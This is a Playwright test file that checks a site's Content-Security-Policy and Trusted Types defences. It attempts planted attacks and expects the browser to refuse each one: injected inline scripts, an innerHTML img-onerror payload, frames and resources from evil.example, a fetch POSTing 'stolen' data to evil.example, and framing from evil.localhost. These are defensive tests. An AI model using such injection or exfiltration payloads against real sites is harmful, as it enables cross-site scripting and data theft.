import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { paths } from '../browser/paths.ts';
import { expect, test } from '../browser/test.ts';

/** Runs `action` in the page and waits until the browser has reported these refusals, each told once, and no other. */
async function expectRefused(page: Page, action: () => unknown, ...directives: unknown[]): Promise<void> {
  await page.evaluate(() => {
    Object.assign(window, { refused: [] });
    addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { refused: string[] }).refused.push(event.effectiveDirective);
    });
  });
  await page.evaluate(action).catch(() => undefined);
  const read = () => page.evaluate(() => [...new Set((window as unknown as { refused: string[] }).refused)].sort());
  await expect.poll(read).toEqual(directives);
}

test.describe('under the enforced policy', () => {
  test.use({ expectedNoise: [/status of 404/] });

  test('a visitor walks the whole site and nothing of it is refused', async ({ page }) => {
    for (const path of paths) {
      const response = await page.goto(path);
      const header = response?.headers()['content-security-policy'];
      const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      expect(header).toContain("require-trusted-types-for 'script'");
      // The header also names the style sheets of the other languages' pages.
      const rules = (policy: string | null | undefined) => policy?.replace(/ 'sha256-[^']+'/g, '');
      expect(rules(header?.replace("; frame-ancestors 'none'", ''))).toBe(rules(meta));
      // The style sheet of the page is in force, so its hash is the right one.
      expect(
        await page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--paper')),
      ).not.toBe('');
    }
  });

  test('the next page is there before the click, and still not one refusal', { tag: '@desk' }, async ({ page }) => {
    await page.goto('/');
    const prefetched = page.context().waitForEvent('request', (request) => request.url().endsWith('/cgu'));
    await page.locator('footer a[href="/cgu"]').hover();
    expect((await (await prefetched).allHeaders())['sec-purpose']).toBe('prefetch');
  });
});

test.describe('what an attacker plants is refused:', () => {
  test.use({ expectedNoise: [/Content Security Policy|Trusted(HTML|Script|Type)|evil\.(example|localhost)|violates/] });

  test.beforeEach(async ({ page }) => {
    await page.goto('/deployment');
  });

  test('an inline script in the page', async ({ page }) => {
    await page.route('**/hosting', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', '<script>window.planted = 1</script></body>');
      await route.fulfill({ response, body });
    });
    await page.goto('/hosting');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
  });

  test('an inline script from a script', async ({ page }) => {
    await expectRefused(
      page,
      () => {
        const script = document.createElement('script');
        script.append('window.planted = 1');
        document.body.append(script);
      },
      'require-trusted-types-for',
    );
    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
  });

  test('markup through innerHTML', async ({ page }) => {
    await expectRefused(
      page,
      () => {
        document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
      },
      'require-trusted-types-for',
    );
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });

  test('a policy that would make markup trusted', async ({ page }) => {
    await expectRefused(
      page,
      () => {
        const { trustedTypes } = window as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): void };
        };
        trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
      },
      'trusted-types',
    );
  });

  test('a frame of another site', async ({ page }) => {
    await expectRefused(
      page,
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
      },
      'frame-src',
    );
  });

  test('a request to another site', async ({ page }) => {
    await expectRefused(page, () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }), 'connect-src');
  });

  test('a script, a style, an image and a form of another site', async ({ page }) => {
    await expectRefused(
      page,
      () => {
        const style = document.createElement('link');
        Object.assign(style, { rel: 'stylesheet', href: 'https://evil.example/style.css' });
        const image = new Image();
        image.src = 'https://evil.example/pixel.png';
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(style, image, form);
        form.submit();
      },
      'form-action',
      'img-src',
      'style-src-elem',
    );
  });

  test('a frame around this site', async ({ page, baseURL }) => {
    const server = createServer((request, response) => {
      const frames = `<iframe src="${baseURL}/hosting"></iframe><iframe src="/own"></iframe>`;
      response.setHeader('Content-Type', 'text/html').end(request.url === '/own' ? '<h1>own</h1>' : frames);
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    await page.goto(`http://evil.localhost:${(server.address() as AddressInfo).port}/`);
    await expect(page.frameLocator('iframe').last().locator('h1')).toHaveText('own');
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    server.close().closeAllConnections();
  });
});
